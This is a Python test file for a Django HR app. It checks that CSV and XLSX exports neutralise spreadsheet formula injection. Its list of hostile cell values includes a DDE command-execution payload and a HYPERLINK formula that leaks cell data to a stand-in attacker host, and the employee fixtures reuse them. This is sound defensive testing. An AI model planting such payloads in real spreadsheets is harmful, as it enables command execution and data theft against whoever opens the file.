"""Files out: the kit's writer (imtsocial.exports) neutralises what a spreadsheet would run,
and the directory export of HR goes through it."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from imtsocial.accounts.roles import Role
from imtsocial.exports import csv_response, neutralise, xlsx_response
from tests.factories import PASSWORD, EmployeeFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    "=CMD|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_formula_start_is_prefixed_with_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Durand", "O'Neil", "Jean-Marc", " =1", "4 090,50", ""])
def test_ordinary_text_is_left_as_it_is(text):
    assert neutralise(text) == text


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_csv_and_xlsx_writers_neutralise_every_cell():
    rows = [[text, date(2025, 9, 1), Decimal("4090.50"), None, True] for text in HOSTILE]
    header = ["=Nom", "Date", "Montant", "Vide", "Actif"]
    response = csv_response("export.csv", header, rows)
    assert response["Content-Disposition"] == 'attachment; filename="export.csv"'
    written = _csv_rows(response)
    assert written[0] == ["'=Nom", "Date", "Montant", "Vide", "Actif"]
    assert [row[0] for row in written[1:]] == ["'" + text for text in HOSTILE]
    assert written[1][1:] == ["01/09/2025", "4090,50", "", "oui"]

    response = xlsx_response("export.xlsx", "Feuille", header, rows)
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Feuille"
    cells = [cell for row in sheet.iter_rows() for cell in row]
    # text only (an empty cell reads back as an inline string): no formula « f », no number
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
    assert all(isinstance(cell.value, str) or cell.value is None for cell in cells)
    # (XML reads a carriage return back as a line feed)
    expected = ["'" + text.replace("\r", "\n") for text in HOSTILE]
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == expected


def _hostile_staff():
    EmployeeFactory(
        employee_number="A1",
        last_name="=CMD|' /C calc'!A0",
        first_name='=HYPERLINK("http://evil.example","x")',
        job_title="=1+2",
        hire_date=date(2025, 9, 1),
    )


def _hr(client, make_user):
    client.force_login(make_user(Role.HR))
    client.post(reverse("account_reauthenticate"), {"password": PASSWORD})


def test_the_directory_csv_export_writes_no_live_formula(client, make_user):
    _hostile_staff()
    _hr(client, make_user)
    response = client.get(reverse("hr:employee_export", args=["csv"]))
    row = next(r for r in _csv_rows(response) if r[0] == "A1")
    assert row[1:3] == ["'=CMD|' /C calc'!A0", '\'=HYPERLINK("http://evil.example","x")']
    assert row[7] == "01/09/2025"
    assert row[-1] == "'=1+2"


def test_the_directory_xlsx_export_writes_text_cells_only(client, make_user):
    _hostile_staff()
    _hr(client, make_user)
    response = client.get(reverse("hr:employee_export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(r for r in sheet.iter_rows() if r[0].value == "A1")
    assert [c.value for c in row[1:3]] == [
        "'=CMD|' /C calc'!A0",
        '\'=HYPERLINK("http://evil.example","x")',
    ]
    assert row[-1].value == "'=1+2"
    assert {c.data_type for r in sheet.iter_rows() for c in r} <= {"s", "inlineStr"}
